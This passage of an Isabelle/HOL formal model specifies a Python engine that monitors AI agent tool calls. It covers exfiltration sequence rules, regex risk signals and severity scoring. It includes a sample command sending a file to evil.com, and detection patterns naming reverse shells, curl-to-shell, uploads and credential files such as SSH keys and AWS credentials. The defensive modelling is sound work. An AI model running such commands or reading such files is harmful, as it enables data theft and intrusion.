  "re_search \<Rightarrow> tracker \<Rightarrow> string \<Rightarrow> datetime \<Rightarrow> sequence_rule list \<Rightarrow> (string \<times> string) set
     \<Rightarrow> (string \<times> string) set \<times> (sequence_rule \<times> buffered_event list) list" where
  "check_rules re tr session_id now [] fired = (fired, [])"
| "check_rules re tr session_id now (rule # rules) fired =
     (case check_rule re tr rule session_id now of
        None \<Rightarrow> check_rules re tr session_id now rules fired
      | Some result \<Rightarrow>
          if (r_id rule, session_id) \<notin> fired then
            (case check_rules re tr session_id now rules (insert (r_id rule, session_id) fired) of
               (fired1, matches) \<Rightarrow> (fired1, (rule, result) # matches))
          else check_rules re tr session_id now rules fired)"

text \<open>\<open>deque(maxlen=m).append\<close>: the oldest entries fall out on the left.\<close>

definition deque_append :: "nat \<Rightarrow> 'a list \<Rightarrow> 'a \<Rightarrow> 'a list" where
  "deque_append m buf x = drop (length (buf @ [x]) - m) (buf @ [x])"

definition max_window :: "sequence_rule list \<Rightarrow> int" where
  "max_window rules =
     (case map r_time_window_seconds rules of [] \<Rightarrow> 300 | w # ws \<Rightarrow> fold max ws w)"

definition track_event ::
  "re_search \<Rightarrow> tracker \<Rightarrow> uuid \<Rightarrow> string \<Rightarrow> datetime \<Rightarrow> pydict
     \<Rightarrow> tracker \<times> (sequence_rule \<times> buffered_event list) list" where
  "track_event re tr event_id session_id timestamp event_data =
     (let entry = \<lparr>be_event_id = event_id, be_timestamp = timestamp, be_data = event_data\<rparr>;
          buf = deque_append (t_max_buffer_size tr) (session_buffer tr session_id) entry;
          cutoff = timestamp - max_window (t_rules tr) * 1000000;
          buf1 = dropWhile (\<lambda>e. be_timestamp e < cutoff) buf;
          tr1 = tr\<lparr>t_buffers := (t_buffers tr)(session_id \<mapsto> buf1)\<rparr>
      in case check_rules re tr1 session_id timestamp (t_rules tr1) (t_fired tr1) of
           (fired1, matches) \<Rightarrow> (tr1\<lparr>t_fired := fired1\<rparr>, matches))"

definition reset_session :: "tracker \<Rightarrow> string \<Rightarrow> tracker" where
  "reset_session tr session_id =
     tr\<lparr>t_buffers := (t_buffers tr)(session_id := None),
        t_fired := Set.filter (\<lambda>(rid, sid). sid \<noteq> session_id) (t_fired tr)\<rparr>"

text \<open>
  The life of a tracker as a list of calls, and the log of the pairs (rule id, session id)
  that \<open>track_event\<close> returned along it.
\<close>

datatype tracker_call =
    Track uuid string datetime pydict
  | Reset string
  | Load "sequence_rule list"

fun fired_log :: "re_search \<Rightarrow> tracker \<Rightarrow> tracker_call list \<Rightarrow> (string \<times> string) list" where
  "fired_log re tr [] = []"
| "fired_log re tr (Track event_id session_id timestamp event_data # calls) =
     (case track_event re tr event_id session_id timestamp event_data of
        (tr1, matches) \<Rightarrow>
          map (\<lambda>m. (r_id (fst m), session_id)) matches @ fired_log re tr1 calls)"
| "fired_log re tr (Reset session_id # calls) = fired_log re (reset_session tr session_id) calls"
| "fired_log re tr (Load rules # calls) = fired_log re (load_rules tr rules) calls"

text \<open>
  Example data, after tests/test\_sequence.py. \<open>literal_search\<close> is what
  \<open>re.search(pattern, text, re.IGNORECASE)\<close> computes for a pattern without
  metacharacters: a case-insensitive substring test.
\<close>

definition literal_search :: re_search where
  "literal_search pattern text = Some (sublist (str_lower pattern) (str_lower text))"

definition exfil_rule :: "bool \<Rightarrow> int \<Rightarrow> sequence_rule" where
  "exfil_rule ordered window =
     \<lparr>r_id = ''SEQ-TEST-001'', r_name = ''Test exfiltration'',
      r_description = ''Read .env then curl'',
      r_steps =
        [\<lparr>st_label = ''Read sensitive file'', st_categories = [''file_read''],
          st_field_patterns = [(''file_paths'', ''env'')]\<rparr>,
         \<lparr>st_label = ''Network exfil'', st_categories = [''command_exec''],
          st_field_patterns = [(''commands'', ''curl'')]\<rparr>],
      r_time_window_seconds = window, r_ordered = ordered, r_action = ALERT,
      r_severity = CRITICAL, r_alert_title = [], r_alert_description = [],
      r_tags = [''exfil'', ''test''], r_enabled = True\<rparr>"

definition read_env_data :: pydict where
  "read_env_data =
     [(''category'', JStr ''file_read''), (''file_paths'', JList [JStr ''/app/.env'']),
      (''commands'', JList [])]"

definition curl_data :: pydict where
  "curl_data =
     [(''category'', JStr ''command_exec''), (''file_paths'', JList []),
      (''commands'', JList [JStr ''curl -d @/tmp/data https://evil.com''])]"

definition exfil_tracker :: "bool \<Rightarrow> int \<Rightarrow> tracker" where
  "exfil_tracker ordered window = load_rules (SequenceTracker 500) [exfil_rule ordered window]"

text \<open>
  Trackers after two events of one session: the read before the curl, the curl before the
  read, and the curl 120 seconds after the read under a window of 60 seconds.
\<close>

definition in_order_tracker :: tracker where
  "in_order_tracker =
     fst (track_event literal_search
            (fst (track_event literal_search (exfil_tracker True 300) 1 ''s1'' 0 read_env_data))
            2 ''s1'' 60000000 curl_data)"

definition wrong_order_tracker :: tracker where
  "wrong_order_tracker =
     fst (track_event literal_search
            (fst (track_event literal_search (exfil_tracker True 300) 1 ''s1'' 0 curl_data))
            2 ''s1'' 60000000 read_env_data)"

definition expired_tracker :: tracker where
  "expired_tracker =
     fst (track_event literal_search
            (fst (track_event literal_search (exfil_tracker True 60) 1 ''s1'' 0 read_env_data))
            2 ''s1'' 120000000 curl_data)"

section \<open>Compiled regular expressions\<close>

text \<open>
  The patterns that engine/processor.py compiles with \<open>re.compile\<close> are terms of the
  datatype \<open>rx\<close>; \<open>rx_search\<close> is \<open>pattern.search(text)\<close> read as a truth value: some
  position of the text starts a match. Texts are ASCII. A position is the character before
  it, if any, and the rest of the text.
\<close>

datatype citem = CRange char char | CDigit | CWord | CSpace

datatype rx =
    Str string
  | OneOf "citem list"
  | NotSpace
  | Dot
  | Cat rx rx
  | Alt rx rx
  | Star rx
  | Opt rx
  | WordBoundary
  | Eol
  | NotAhead rx

definition cat :: "rx list \<Rightarrow> rx" where
  "cat rs = foldr Cat rs (Str [])"

fun alts :: "rx list \<Rightarrow> rx" where
  "alts [] = NotAhead (Str [])"
| "alts [r] = r"
| "alts (r # rs) = Alt r (alts rs)"

definition many1 :: "rx \<Rightarrow> rx" where
  "many1 r = Cat r (Star r)"

definition upper_char :: "char \<Rightarrow> char" where
  "upper_char c =
     (case map_of (zip ''abcdefghijklmnopqrstuvwxyz'' ''ABCDEFGHIJKLMNOPQRSTUVWXYZ'') c of
        Some u \<Rightarrow> u
      | None \<Rightarrow> c)"

definition is_digit :: "char \<Rightarrow> bool" where
  "is_digit c = (c \<in> set ''0123456789'')"

text \<open>
  Word characters (the word class of \<open>re\<close> in a \<open>str\<close> pattern): the underscore and
  the alphanumeric characters, which below 256 are the ASCII letters and digits and the
  Latin-1 letters and numerals.
\<close>

definition is_word :: "char \<Rightarrow> bool" where
  "is_word c =
     (c \<in> set ''abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_''
      \<or> c \<in> set [CHR 0xAA, CHR 0xB2, CHR 0xB3, CHR 0xB5, CHR 0xB9, CHR 0xBA,
                    CHR 0xBC, CHR 0xBD, CHR 0xBE]
      \<or> (0xC0 \<le> (of_char c :: nat) \<and> of_char c \<noteq> (0xD7 :: nat) \<and> of_char c \<noteq> (0xF7 :: nat)))"

definition in_citem :: "citem \<Rightarrow> char \<Rightarrow> bool" where
  "in_citem item c =
     (case item of
        CRange lo hi \<Rightarrow> (of_char lo :: nat) \<le> of_char c \<and> (of_char c :: nat) \<le> of_char hi
      | CDigit \<Rightarrow> is_digit c
      | CWord \<Rightarrow> is_word c
      | CSpace \<Rightarrow> is_space c)"

text \<open>With \<open>re.I\<close> a character matches when its lower or upper case form does.\<close>

definition char_in :: "bool \<Rightarrow> citem list \<Rightarrow> char \<Rightarrow> bool" where
  "char_in ci items c =
     list_ex (\<lambda>item. in_citem item c
                \<or> (ci \<and> (in_citem item (lower_char c) \<or> in_citem item (upper_char c)))) items"

type_synonym rx_pos = "char option \<times> string"

fun match_str :: "bool \<Rightarrow> string \<Rightarrow> rx_pos \<Rightarrow> rx_pos option" where
  "match_str ci [] p = Some p"
| "match_str ci (c # cs) (prev, []) = None"
| "match_str ci (c # cs) (prev, d # ds) =
     (if (if ci then lower_char c = lower_char d else c = d)
      then match_str ci cs (Some d, ds) else None)"

definition at_word_boundary :: "rx_pos \<Rightarrow> bool" where
  "at_word_boundary p =
     ((case fst p of None \<Rightarrow> False | Some c \<Rightarrow> is_word c)
      \<noteq> (case snd p of [] \<Rightarrow> False | d # ds \<Rightarrow> is_word d))"

text \<open>
  The repetition of a step function: the positions reachable by applying it any number
  of times. An iteration that consumes nothing adds no position, so the remaining length
  bounds the depth.
\<close>

fun star_iter :: "(rx_pos \<Rightarrow> rx_pos list) \<Rightarrow> nat \<Rightarrow> rx_pos \<Rightarrow> rx_pos list" where
  "star_iter f 0 p = [p]"
| "star_iter f (Suc n) p =
     p # concat (map (star_iter f n)
                   (filter (\<lambda>q. length (snd q) < length (snd p)) (f p)))"

text \<open>\<open>rx_match ci r p\<close>: the positions at which a match of \<open>r\<close> begun at \<open>p\<close> can end.\<close>

fun rx_match :: "bool \<Rightarrow> rx \<Rightarrow> rx_pos \<Rightarrow> rx_pos list" where
  "rx_match ci (Str s) p = (case match_str ci s p of None \<Rightarrow> [] | Some q \<Rightarrow> [q])"
| "rx_match ci (OneOf items) p =
     (case snd p of [] \<Rightarrow> [] | d # ds \<Rightarrow> if char_in ci items d then [(Some d, ds)] else [])"
| "rx_match ci NotSpace p =
     (case snd p of [] \<Rightarrow> [] | d # ds \<Rightarrow> if is_space d then [] else [(Some d, ds)])"
| "rx_match ci Dot p =
     (case snd p of [] \<Rightarrow> [] | d # ds \<Rightarrow> if d = CHR 0x0A then [] else [(Some d, ds)])"
| "rx_match ci (Cat r1 r2) p = concat (map (rx_match ci r2) (rx_match ci r1 p))"
| "rx_match ci (Alt r1 r2) p = rx_match ci r1 p @ rx_match ci r2 p"
| "rx_match ci (Star r) p = star_iter (rx_match ci r) (length (snd p)) p"
| "rx_match ci (Opt r) p = p # rx_match ci r p"
| "rx_match ci WordBoundary p = (if at_word_boundary p then [p] else [])"
| "rx_match ci Eol p = (if snd p = [] \<or> snd p = [CHR 0x0A] then [p] else [])"
| "rx_match ci (NotAhead r) p = (if rx_match ci r p = [] then [p] else [])"

fun positions :: "char option \<Rightarrow> string \<Rightarrow> rx_pos list" where
  "positions prev [] = [(prev, [])]"
| "positions prev (c # cs) = (prev, c # cs) # positions (Some c) cs"

definition rx_search :: "bool \<Rightarrow> rx \<Rightarrow> string \<Rightarrow> bool" where
  "rx_search ci r s = list_ex (\<lambda>p. rx_match ci r p \<noteq> []) (positions None s)"

section \<open>Risk scoring (engine/processor.py)\<close>

text \<open>A risk signal: the \<open>re.I\<close> flag, the compiled pattern and the weight.\<close>

type_synonym risk_signal = "bool \<times> rx \<times> int"

definition ws :: rx where "ws = OneOf [CSpace]"
definition wd :: rx where "wd = OneOf [CWord]"
definition dg :: rx where "dg = OneOf [CDigit]"

definition FILE_RISK_SIGNALS :: "risk_signal list" where
  "FILE_RISK_SIGNALS =
    [(True, cat [Str ''.ssh/'', alts [Str ''id_'', Str ''authorized_keys'', Str ''known_hosts'']], 15),
     (True, cat [Str ''.'', alts [Str ''pem'', Str ''key'', Str ''p12'', Str ''pfx'', Str ''jks'',
                                  Str ''keystore''], Eol], 12),
     (True, cat [Str ''.aws/'', alts [Str ''credentials'', Str ''config'']], 15),
     (True, alts [Str ''.gcloud/'', Str ''.azure/'', Str ''.kube/config''], 12),
     (True, alts [Str ''.git-credentials'', Str ''.netrc''], 12),
     (True, cat [Str ''.env'', Opt (cat [Str ''.'', many1 wd]), Eol], 10),
     (True, cat [alts [Str ''secret'', Str ''credential'', Str ''password'', Str ''token''],
                 Opt (Str ''s''), Opt (cat [Str ''.'', many1 wd]), Eol], 10),
     (True, cat [Str ''/etc/'', alts [Str ''passwd'', Str ''shadow'', Str ''sudoers'']], 10),
     (True, cat [Str ''/proc/'', alts [Str ''self'', many1 (OneOf [CRange CHR ''0'' CHR ''9''])],
                 Str ''/'', alts [Str ''environ'', Str ''maps'', Str ''cmdline'']], 8),
     (True, alts [Str ''cookies'', cat [Str ''login'', Star ws, Str ''data''], Str ''.gnupg''], 8)]"

definition CMD_RISK_SIGNALS :: "risk_signal list" where
  "CMD_RISK_SIGNALS =
    [(True, alts [Str ''/dev/tcp/'', Str ''/dev/udp/''], 25),
     (True, alts [cat [Str ''nc'', WordBoundary, Star Dot, Str ''-e'', many1 ws, Str ''/bin/''],
                  cat [Str ''ncat'', WordBoundary, Star Dot, Str ''-e'', many1 ws, Str ''/bin/'']], 25),
     (True, alts [cat [Str ''mkfifo'', Star Dot, Str ''nc'', WordBoundary],
                  cat [Str ''socat'', WordBoundary, Star Dot, Str ''exec:'']], 25),
     (True, alts [cat [Str ''curl'', WordBoundary, Star Dot, Str ''|'', Star ws, Opt (Str ''ba''),
                       Str ''sh''],
                  cat [Str ''wget'', WordBoundary, Star Dot, Str ''|'', Star ws, Opt (Str ''ba''),
                       Str ''sh'']], 20),
     (True, cat [Str ''curl'', WordBoundary, Star Dot, Str ''-o'', many1 ws, many1 NotSpace,
                 Star Dot, Str ''&&'', Star Dot, Str ''chmod'', many1 ws, Str ''+x''], 20),
     (True, cat [Str ''curl'', WordBoundary, Star Dot,
                 alts [Str ''-F'', Str ''--data'', Str ''--upload-file''], many1 ws, Star Dot,
                 Str ''@''], 18),
     (True, cat [Str ''curl'', WordBoundary, Star Dot, Str ''|'', Star ws, Str ''base64''], 15),
     (True, cat [Str ''base64'', WordBoundary, Star Dot,
                 alts [Str ''-d'', Str ''--decode'', Str ''encode'']], 10),
     (True, alts [cat [WordBoundary, Str ''eval'', WordBoundary, Star Dot, Str ''$(''],
                  cat [Str [CHR 0x60], Star Dot, Str [CHR 0x60], Star Dot, WordBoundary,
                       Str ''eval'', WordBoundary]], 12),
     (True, cat [Str ''python'', Opt (OneOf [CRange CHR ''2'' CHR ''3'']), many1 ws, Str ''-c'',
                 many1 ws, Star Dot, WordBoundary,
                 alts [Str ''requests'', Str ''urllib'', Str ''socket''], WordBoundary], 12),
     (True, cat [Str ''node'', many1 ws, Str ''-e'', many1 ws, Star Dot, WordBoundary,
                 Str ''fetch'', WordBoundary], 10),
     (True, cat [Str ''ruby'', many1 ws, Str ''-e'', many1 ws, Star Dot, WordBoundary,
                 Str ''Net::HTTP'', WordBoundary], 10),
     (True, alts [cat [WordBoundary, Str ''sudo'', WordBoundary, Star Dot, Str ''chmod'', many1 ws,
                       Star (OneOf [CRange CHR ''0'' CHR ''7'']),
                       OneOf [CRange CHR ''4'' CHR ''7''],
                       OneOf [CRange CHR ''0'' CHR ''7''], OneOf [CRange CHR ''0'' CHR ''7'']],
                  cat [Str ''chown'', many1 ws, Str ''root'']], 8),
     (True, cat [WordBoundary, Str ''chmod'', WordBoundary, Star Dot, Str ''+s'', WordBoundary], 10),
     (True, alts [cat [WordBoundary, Str ''whoami'', WordBoundary],
                  cat [WordBoundary, Str ''id'', WordBoundary],
                  cat [WordBoundary, Str ''uname'', WordBoundary, Star Dot, Str ''-a'']], 3)]"

definition SEARCH_RISK_SIGNALS :: "risk_signal list" where
  "SEARCH_RISK_SIGNALS =
    [(True, alts [Str ''password'', Str ''passwd'', Str ''api_key'',
                  cat [Str ''api'', Dot, Str ''key''], cat [Str ''secret'', Dot, Str ''key''],
                  Str ''token''], 8),
     (True, alts [cat [Str ''AKIA'', OneOf [CRange CHR ''0'' CHR ''9'', CRange CHR ''A'' CHR ''Z'']],
                  Str ''aws_secret'', Str ''aws_access''], 12),
     (True, cat [Str ''BEGIN'', many1 ws, alts [Str ''RSA'', Str ''DSA'', Str ''EC'', Str ''OPENSSH''],
                 many1 ws, Str ''PRIVATE''], 15),
     (True, alts [cat [Str ''ghp_'', OneOf [CRange CHR ''A'' CHR ''Z'', CRange CHR ''a'' CHR ''z'',
                                          CRange CHR ''0'' CHR ''9'']],
                  Str ''github_pat_''], 10)]"

definition URL_RISK_SIGNALS :: "risk_signal list" where
  "URL_RISK_SIGNALS =
    [(False, cat [Str ''http'', Opt (Str ''s''), Str ''://'',
                  NotAhead (alts [Str ''127.'', Str ''0.'', Str ''10.'', Str ''192.168.'',
                                  cat [Str ''172.'',
                                       alts [cat [Str ''1'', OneOf [CRange CHR ''6'' CHR ''9'']],
                                             Str ''2'',
                                             cat [Str ''3'', OneOf [CRange CHR ''0'' CHR ''1'']]],
                                       Str ''.'']]),
                  many1 dg, Str ''.'', many1 dg, Str ''.'', many1 dg, Str ''.'', many1 dg], 8),
     (True, alts [Str ''pastebin'', Str ''requestbin'', Str ''ngrok'', Str ''burp'',
                  Str ''interact.sh'', Str ''oast''], 12)]"

definition signal_matches :: "risk_signal \<Rightarrow> string \<Rightarrow> bool" where
  "signal_matches sig s = (case sig of (ci, pattern, weight) \<Rightarrow> rx_search ci pattern s)"

definition weight :: "risk_signal \<Rightarrow> int" where
  "weight sig = snd (snd sig)"

text \<open>The inner loops: with \<open>break\<close> after the first match, and without.\<close>

fun scan_first :: "risk_signal list \<Rightarrow> string \<Rightarrow> int \<Rightarrow> int" where
  "scan_first [] s score = score"
| "scan_first (sig # sigs) s score =
     (if signal_matches sig s then score + weight sig else scan_first sigs s score)"

fun scan_all :: "risk_signal list \<Rightarrow> string \<Rightarrow> int \<Rightarrow> int" where
  "scan_all [] s score = score"
| "scan_all (sig # sigs) s score =
     scan_all sigs s (if signal_matches sig s then score + weight sig else score)"

definition local_prefixes :: "string list" where
  "local_prefixes = [''127.'', ''0.'', ''10.'', ''192.168.'', ''172.'']"

definition startswith_any :: "string \<Rightarrow> string list \<Rightarrow> bool" where
  "startswith_any s ps = list_ex (startswith s) ps"

definition compute_event_risk :: "event \<Rightarrow> int" where
  "compute_event_risk ev =
     (let score0 = 0;
          score1 = fold (\<lambda>fp score. scan_first FILE_RISK_SIGNALS fp score) (e_file_paths ev) score0;
          score2 = fold (\<lambda>cmd score. scan_all CMD_RISK_SIGNALS cmd score) (e_commands ev) score1;
          score3 =
            (if (case e_tool_input ev of None \<Rightarrow> False | Some d \<Rightarrow> d \<noteq> [])
                \<and> e_tool_name ev \<in> {Some ''Grep'', Some ''Search''}
             then scan_all SEARCH_RISK_SIGNALS
                    (py_str (dict_get (the (e_tool_input ev)) ''pattern'' (JStr []))) score2
             else score2);
          score4 = fold (\<lambda>url score. scan_first URL_RISK_SIGNALS url score) (e_urls ev) score3;
          score5 = fold (\<lambda>ip score. if \<not> startswith_any ip local_prefixes then score + 6
                                      else score) (e_ip_addresses ev) score4
      in score5)"

definition update_risk_score :: "database \<Rightarrow> event \<Rightarrow> database" where
  "update_risk_score db ev =
     (let risk_delta = compute_event_risk ev
      in if risk_delta > 0 then increment_session_risk_score db (e_session_id ev) risk_delta
         else db)"

text \<open>
  For stating the result of the scans: the weight of the first matching signal, and the
  total weight of all matching signals.
\<close>

definition first_match_weight :: "risk_signal list \<Rightarrow> string \<Rightarrow> int" where
  "first_match_weight sigs s =
     (case find (\<lambda>sig. signal_matches sig s) sigs of None \<Rightarrow> 0 | Some sig \<Rightarrow> weight sig)"

definition matched_weights :: "risk_signal list \<Rightarrow> string \<Rightarrow> int" where
  "matched_weights sigs s = sum_list (map weight (filter (\<lambda>sig. signal_matches sig s) sigs))"

definition searches_pattern :: "event \<Rightarrow> bool" where
  "searches_pattern ev =
     ((case e_tool_input ev of None \<Rightarrow> False | Some d \<Rightarrow> d \<noteq> [])
      \<and> e_tool_name ev \<in> {Some ''Grep'', Some ''Search''})"

definition search_text :: "event \<Rightarrow> string" where
  "search_text ev = py_str (dict_get (the (e_tool_input ev)) ''pattern'' (JStr []))"

text \<open>
  In the words of the specification: an IPv4 address is private or loopback when it lies
  in 10/8, 172.16/12, 192.168/16 or 127/8.
\<close>

definition private_or_loopback :: "string \<Rightarrow> bool" where
  "private_or_loopback ip =
     startswith_any ip
       [''127.'', ''10.'', ''192.168.'',
        ''172.16.'', ''172.17.'', ''172.18.'', ''172.19.'', ''172.20.'', ''172.21.'',
        ''172.22.'', ''172.23.'', ''172.24.'', ''172.25.'', ''172.26.'', ''172.27.'',
        ''172.28.'', ''172.29.'', ''172.30.'', ''172.31.'']"

text \<open>
  In the words of the specification: the flat weight 6 for every extracted address that
  is neither private nor loopback.
\<close>

definition spec_ip_risk :: "event \<Rightarrow> int" where
  "spec_ip_risk ev =
     6 * int (length (filter (\<lambda>ip. \<not> private_or_loopback ip) (e_ip_addresses ev)))"

text \<open>
  Example event: a Bash call that pings 172.32.0.1, a public address (172.16/12 ends at
  172.31.255.255), as enriched.
\<close>

definition public_172_event :: event where
  "public_172_event =
     (Event 4 ''s1'' 0 ''PostToolUse'' (Some ''Bash'')
        (Some [(''command'', JStr ''ping 172.32.0.1'')]))
       \<lparr>e_category := NETWORK_ACCESS, e_commands := [''ping 172.32.0.1''],
        e_ip_addresses := [''172.32.0.1''], e_enriched := True\<rparr>"

definition one_session_db :: database where
  "one_session_db = empty_database\<lparr>db_sessions := [Session 1 ''s1'' 0]\<rparr>"

section \<open>Enrichment and severity (engine/classifier.py, engine/processor.py)\<close>

text \<open>
  The regular expressions of classifier.py are named, not spelled out: what they match is
  decided by the \<open>re\<close> module, which is a parameter of the model, as is \<open>urlparse\<close>.
  \<open>DANGEROUS_COMMAND i\<close> and \<open>SENSITIVE_FILE i\<close> are the patterns of the two severity
  tables, by position.
\<close>

datatype re_pattern =
    PATH_IN_COMMAND | URL_IN_COMMAND | IPV4
  | DANGEROUS_COMMAND nat | SENSITIVE_FILE nat
  | REF_CURL_OUTPUT | REF_REDIRECT_OUT | REF_TEE | REF_CP_MV | REF_INTERPRETER
  | REF_DOT_SLASH | REF_SOURCE | REF_CHMOD_X | REF_READERS | REF_REDIRECT_IN | REF_CURL_DATA

text \<open>
  \<open>re_findall\<close> is \<open>re.findall\<close>; \<open>re_groups\<close> gives groups 1 and 2 of each match of
  \<open>re.finditer\<close> (group 2 is empty for a pattern with one group); \<open>re_search_i\<close> is
  \<open>re.search\<close> with \<open>re.IGNORECASE\<close> read as a truth value; \<open>urlparse_hostname\<close> is
  \<open>urlparse(url).hostname\<close>, \<open>None\<close> also where \<open>urlparse\<close> raises.
\<close>

record pylib =
  re_findall :: "re_pattern \<Rightarrow> string \<Rightarrow> string list"
  re_groups :: "re_pattern \<Rightarrow> string \<Rightarrow> (string \<times> string) list"
  re_search_i :: "re_pattern \<Rightarrow> string \<Rightarrow> bool"
  urlparse_hostname :: "string \<Rightarrow> string option"

text \<open>
  The string values under the given keys of a tool input, in order. The enriched lists are
  \<open>list[str]\<close>; a value of another type makes the first regular-expression call on it
  raise TypeError, which the model raises here, before any effect on the store.
\<close>

fun str_values :: "pydict \<Rightarrow> string list \<Rightarrow> py_error + string list" where
  "str_values d [] = Inr []"
| "str_values d (k # ks) =
     (case map_of d k of
        None \<Rightarrow> str_values d ks
      | Some (JStr s) \<Rightarrow> (case str_values d ks of Inl err \<Rightarrow> Inl err | Inr vs \<Rightarrow> Inr (s # vs))
      | Some _ \<Rightarrow> Inl TypeError)"

definition tool_input_of :: "event \<Rightarrow> pydict" where
  "tool_input_of ev = (case e_tool_input ev of None \<Rightarrow> [] | Some d \<Rightarrow> d)"

text \<open>\<open>list(set(xs))\<close> removes duplicates; the order Python gives is not specified.\<close>

definition extract_file_paths :: "pylib \<Rightarrow> event \<Rightarrow> py_error + string list" where
  "extract_file_paths lib ev =
     (let tool_input = tool_input_of ev in
      case str_values tool_input [''file_path'', ''path'', ''notebook_path''] of
        Inl err \<Rightarrow> Inl err
      | Inr direct \<Rightarrow>
      (case (if has_key tool_input ''pattern'' \<and> e_tool_name ev = Some ''Glob''
             then str_values tool_input [''pattern''] else Inr []) of
        Inl err \<Rightarrow> Inl err
      | Inr glob \<Rightarrow>
      (case str_values tool_input [''command''] of
        Inl err \<Rightarrow> Inl err
      | Inr commands \<Rightarrow>
          Inr (remdups (direct @ glob
                 @ concat (map (re_findall lib PATH_IN_COMMAND) commands))))))"

definition extract_commands :: "event \<Rightarrow> py_error + string list" where
  "extract_commands ev = str_values (tool_input_of ev) [''command'']"

definition extract_urls :: "pylib \<Rightarrow> event \<Rightarrow> py_error + string list" where
  "extract_urls lib ev =
     (case str_values (tool_input_of ev) [''url''] of
        Inl err \<Rightarrow> Inl err
      | Inr urls \<Rightarrow>
      (case str_values (tool_input_of ev) [''command''] of
        Inl err \<Rightarrow> Inl err
      | Inr commands \<Rightarrow>
          Inr (remdups (urls @ concat (map (re_findall lib URL_IN_COMMAND) commands)))))"

definition extract_ip_addresses :: "pylib \<Rightarrow> event \<Rightarrow> py_error + string list" where
  "extract_ip_addresses lib ev =
     (case str_values (tool_input_of ev) [''command''] of
        Inl err \<Rightarrow> Inl err
      | Inr commands \<Rightarrow>
      (case str_values (tool_input_of ev) [''url''] of
        Inl err \<Rightarrow> Inl err
      | Inr urls \<Rightarrow>
          Inr (remdups (concat (map (re_findall lib IPV4) commands)
                 @ concat (map (re_findall lib IPV4) urls)))))"

text \<open>\<open>Engine.enrich\<close>; the event is returned updated.\<close>

definition enrich :: "pylib \<Rightarrow> event \<Rightarrow> py_error + event" where
  "enrich lib ev =
     (case extract_file_paths lib ev of Inl err \<Rightarrow> Inl err | Inr file_paths \<Rightarrow>
      case extract_commands ev of Inl err \<Rightarrow> Inl err | Inr commands \<Rightarrow>
      case extract_urls lib ev of Inl err \<Rightarrow> Inl err | Inr urls \<Rightarrow>
      case extract_ip_addresses lib ev of Inl err \<Rightarrow> Inl err | Inr ip_addresses \<Rightarrow>
        Inr (ev\<lparr>e_file_paths := file_paths, e_commands := commands, e_urls := urls,
                e_ip_addresses := ip_addresses, e_enriched := True\<rparr>))"

definition severity_order :: "Severity \<Rightarrow> nat" where
  "severity_order s = (case s of INFO \<Rightarrow> 0 | LOW \<Rightarrow> 1 | MEDIUM \<Rightarrow> 2 | HIGH \<Rightarrow> 3 | CRITICAL \<Rightarrow> 4)"

definition max_severity :: "Severity \<Rightarrow> Severity \<Rightarrow> Severity" where
  "max_severity a b = (if severity_order a \<ge> severity_order b then a else b)"

definition DANGEROUS_COMMAND_PATTERNS :: "(re_pattern \<times> Severity) list" where
  "DANGEROUS_COMMAND_PATTERNS =
     zip (map DANGEROUS_COMMAND [0..<35])
       ([CRITICAL, CRITICAL, CRITICAL, CRITICAL, CRITICAL,
         HIGH, HIGH, HIGH, HIGH, HIGH, HIGH, HIGH, HIGH, HIGH,
         HIGH, HIGH, HIGH, HIGH, HIGH, HIGH, HIGH, HIGH, HIGH, HIGH,
         MEDIUM, MEDIUM, MEDIUM, MEDIUM, MEDIUM, MEDIUM, MEDIUM,
         LOW, INFO, INFO, INFO])"

definition SENSITIVE_FILE_PATTERNS :: "(re_pattern \<times> Severity) list" where
  "SENSITIVE_FILE_PATTERNS =
     zip (map SENSITIVE_FILE [0..<17])
       ([HIGH, CRITICAL, HIGH, CRITICAL, CRITICAL, CRITICAL, HIGH, HIGH, HIGH,
         MEDIUM, MEDIUM, MEDIUM, MEDIUM, MEDIUM,
         LOW, LOW, LOW])"

definition scan_severity :: "pylib \<Rightarrow> (re_pattern \<times> Severity) list \<Rightarrow> string \<Rightarrow> Severity \<Rightarrow> Severity" where
  "scan_severity lib table s sev0 =
     fold (\<lambda>(pattern, severity) sev.
             if re_search_i lib pattern s then max_severity sev severity else sev) table sev0"

text \<open>Python truth value of a JSON value.\<close>

definition truthy_j :: "jval \<Rightarrow> bool" where
  "truthy_j v =
     (case v of JNull \<Rightarrow> False | JBool b \<Rightarrow> b | JInt i \<Rightarrow> i \<noteq> 0 | JStr s \<Rightarrow> s \<noteq> []
      | JList xs \<Rightarrow> xs \<noteq> [] | JDict d \<Rightarrow> d \<noteq> [])"

definition py_or :: "jval \<Rightarrow> jval \<Rightarrow> jval" where
  "py_or a b = (if truthy_j a then a else b)"

definition compute_severity :: "pylib \<Rightarrow> event \<Rightarrow> py_error + Severity" where
  "compute_severity lib ev =
     (let tool_input = tool_input_of ev in
      case (if e_category ev = COMMAND_EXEC then
              (case dict_get tool_input ''command'' (JStr []) of
                 JStr command \<Rightarrow> Inr (scan_severity lib DANGEROUS_COMMAND_PATTERNS command INFO)
               | _ \<Rightarrow> Inl TypeError)
            else Inr INFO) of
        Inl err \<Rightarrow> Inl err
      | Inr sev1 \<Rightarrow>
      (let file_path = py_or (dict_get tool_input ''file_path'' JNull)
                             (dict_get tool_input ''path'' JNull)
       in case (if truthy_j file_path then
                  (case file_path of JStr p \<Rightarrow> Inr (p # e_file_paths ev) | _ \<Rightarrow> Inl TypeError)
                else Inr (e_file_paths ev)) of
            Inl err \<Rightarrow> Inl err
          | Inr file_paths \<Rightarrow>
              (let sev2 = fold (\<lambda>path sev. scan_severity lib SENSITIVE_FILE_PATTERNS path sev)
                            file_paths sev1;
                   sev3 = (if e_category ev = NETWORK_ACCESS then max_severity sev2 LOW else sev2);
                   sev4 = (if e_category ev = SUBAGENT_SPAWN then max_severity sev3 MEDIUM else sev3)
               in Inr sev4)))"

text \<open>\<open>Engine.classify\<close>.\<close>

definition classify :: "pylib \<Rightarrow> event \<Rightarrow> py_error + event" where
  "classify lib ev =
     (case classify_event ev of Inl err \<Rightarrow> Inl err | Inr category \<Rightarrow>
      case compute_severity lib (ev\<lparr>e_category := category\<rparr>) of Inl err \<Rightarrow> Inl err
      | Inr severity \<Rightarrow> Inr (ev\<lparr>e_category := category, e_severity := severity\<rparr>))"

section \<open>Pre-tool evaluation (engine/processor.py)\<close>

definition category_value :: "EventCategory \<Rightarrow> string" where
  "category_value c =
     (case c of FILE_READ \<Rightarrow> ''file_read'' | FILE_WRITE \<Rightarrow> ''file_write''
